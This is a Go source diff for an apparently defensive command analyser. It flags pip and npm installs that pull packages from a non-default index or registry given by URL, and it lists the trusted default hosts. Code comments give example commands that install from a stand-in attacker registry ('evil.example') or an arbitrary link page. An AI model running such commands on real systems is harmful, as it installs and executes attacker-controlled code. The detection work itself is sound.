@@ -270,8 +270,21 @@ func packageNames(prog string, verbs, installs, indexes map[string]bool, remote 
 		verb := -1
 		for i := 1; i < len(ws); i++ {
 			if ws[i] == "" || ws[i][0] == '-' {
-				if indexes[ws[i]] {
+				name, val, attached := strings.Cut(ws[i], "=")
+				if !indexes[name] {
+					continue
+				}
+				if !attached && i+1 < len(ws) {
 					i++
+					val = ws[i]
+				}
+				if strings.Contains(val, "://") && !defaultIndex(val) {
+					// pip install -f http://h/ x, --index-url=…: the
+					// packages come from where the command says, and
+					// their build scripts run.
+					r.Effects |= EffExec | EffComputed
+					r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: i, Why: prog + " " + whyIndexURL})
+					return
 				}
 				continue
 			}
@@ -294,6 +307,26 @@ func packageNames(prog string, verbs, installs, indexes map[string]bool, remote 
 			}
 		}
 	}
+}
+
+// whyIndexURL is why an index, a registry or a page of links the command
+// names by a URL is judged.
+const whyIndexURL = "fetches the packages it installs from an index or a page the command names by a URL, and their build or install scripts run: code the engine cannot see"
+
+// defaultIndex reports a URL of the index or registry the package
+// managers use by default (https://pypi.org/simple, the npm registry):
+// naming it changes nothing.
+func defaultIndex(u string) bool {
+	rest, ok := strings.CutPrefix(u, "https://")
+	if !ok {
+		return false
+	}
+	host, _, _ := strings.Cut(rest, "/")
+	switch host {
+	case "pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "registry.yarnpkg.com":
+		return true
+	}
+	return false
 }
 
 // localGlob reports a glob over files of a directory (dist/*.whl), with
@@ -321,6 +354,22 @@ const whyRemoteInstall = "installs a package fetched from a URL or a git reposit
 // remoteInstall finds an operand of npm's install commands that names a
 // package fetched from a URL or a git repository (RemotePackage).
 func remoteInstall(r *Result) {
+	installs := false
+	for _, it := range r.Items {
+		installs = installs || it.Spec != nil && (npmInstallVerbs[it.Spec.Name] || npmFetchVerbs[it.Spec.Name])
+	}
+	if !installs {
+		return
+	}
+	for _, it := range r.Items {
+		if it.Kind == KindValue && it.Opt != nil && slices.Contains(it.Opt.Long, "registry") && (it.Computed || strings.Contains(it.Text, "://") && !defaultIndex(it.Text)) {
+			// npm i --registry https://evil.example/ x: the packages come
+			// from where the command says.
+			r.Effects |= EffExec | EffComputed
+			r.Findings = append(r.Findings, Finding{Effect: EffExec | EffComputed, Word: it.Word, Why: "npm " + whyIndexURL})
+			return
+		}
+	}
 	for _, it := range r.Items {
 		if it.Kind == KindOperand && it.Spec != nil && npmInstallVerbs[it.Spec.Name] && RemotePackage(it.Text, false) {
 			r.Effects |= EffExec | EffComputed
@@ -329,6 +378,10 @@ func remoteInstall(r *Result) {
 		}
 	}
 }
+
+// npmFetchVerbs are npm's other commands that fetch packages and run
+// their scripts: exec's, the lockfile's, the updated ones.
+var npmFetchVerbs = words("exec", "ci", "update", "rebuild", "dedupe")
 
 // npmInstallVerbs are npm's commands that install the packages they name.
 var npmInstallVerbs = words("install", "install-test", "install-ci-test")
